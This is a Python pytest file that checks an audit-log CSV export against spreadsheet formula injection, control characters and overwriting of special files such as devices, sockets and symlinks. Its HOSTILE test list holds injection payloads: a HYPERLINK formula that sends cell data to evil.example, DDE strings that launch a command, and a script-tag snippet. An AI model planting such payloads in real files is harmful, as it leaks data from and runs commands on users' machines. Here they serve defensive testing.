"""audit export --csv as a spreadsheet will open it: hostile names stay text, control
characters are replaced, --raw keeps the exact text, and the export never replaces a special
file."""

from __future__ import annotations

import csv
import os
import socket
from pathlib import Path

import pytest

from bmx_console.core.audit import AuditError, AuditLog
from bmx_console.core.audit_export import safe_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTab first",
    "\rReturn first",
    "Line\nbreak and bell\x07 and esc\x1b[31m",
    "<img src=x onerror=alert(1)><script>alert('x')</script>",
    "Ann =1+1 in the middle",
]
# What a spreadsheet (Excel, LibreOffice, Google Sheets) runs or interprets in a cell.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def fill(log: AuditLog) -> None:
    for name in HOSTILE:
        log.record(
            operator=name,
            action="release",
            outcome="released",
            door_name=name,
            subject=name,
            detail=name,
        )


def cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_no_exported_cell_is_something_a_spreadsheet_would_evaluate(tmp_path: Path) -> None:
    with AuditLog(tmp_path / "audit.sqlite3") as log:
        fill(log)
        assert log.export_csv(tmp_path / "out.csv") == len(HOSTILE)

    rows = cells(tmp_path / "out.csv")
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell
            assert not any(ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0 for c in cell), repr(cell)
    header = rows[0]
    operators = [r[header.index("operator")] for r in rows[1:]]
    assert operators[0] == "'" + HOSTILE[0]
    assert operators[6] == "Line\ufffdbreak and bell\ufffd and esc\ufffd[31m"
    # Harmless text is exported as it is, HTML included (a spreadsheet does not render it).
    assert operators[7] == HOSTILE[7]
    assert operators[8] == HOSTILE[8]


def test_raw_export_keeps_the_exact_text(tmp_path: Path) -> None:
    with AuditLog(tmp_path / "audit.sqlite3") as log:
        fill(log)
        log.export_csv(tmp_path / "raw.csv", raw=True)
    rows = cells(tmp_path / "raw.csv")
    header = rows[0]
    assert [r[header.index("door_name")] for r in rows[1:]] == HOSTILE


def test_safe_cell_marks_formula_starts_and_leaves_other_text() -> None:
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("Lobby") == "Lobby"
    assert safe_cell("") == ""


def test_an_export_never_replaces_a_device_or_other_special_file(tmp_path: Path) -> None:
    with AuditLog(tmp_path / "audit.sqlite3") as log:
        fill(log)
        for special in (Path(os.devnull), tmp_path):
            with pytest.raises(AuditError, match="not a regular file"):
                log.export_csv(special)
        sock_path = tmp_path / "s.sock"
        server = socket.socket(socket.AF_UNIX)
        server.bind(str(sock_path))
        try:
            with pytest.raises(AuditError, match="a device or other special file"):
                log.export_csv(sock_path)
        finally:
            server.close()
        fifo = tmp_path / "pipe"
        os.mkfifo(fifo)
        with pytest.raises(AuditError, match="not a regular file"):
            log.export_csv(fifo)
        link = tmp_path / "to-null.csv"
        link.symlink_to(os.devnull)
        with pytest.raises(AuditError, match="not a regular file"):
            log.export_csv(link)
        # A regular file is replaced as before.
        regular = tmp_path / "old.csv"
        regular.write_text("old export\n")
        log.export_csv(regular)
    assert Path(os.devnull).is_char_device()
    assert link.is_symlink()
    assert cells(regular)[0][0] == "seq"


def test_the_export_is_recorded_when_an_operator_makes_it(tmp_path: Path) -> None:
    with AuditLog(tmp_path / "audit.sqlite3") as log:
        log.export_csv(tmp_path / "out.csv", operator="Ann")
        last = log.entries(limit=1)[0]
    assert (last.action, last.operator, last.subject) == (
        "audit_export",
        "Ann",
        str(tmp_path / "out.csv"),
    )
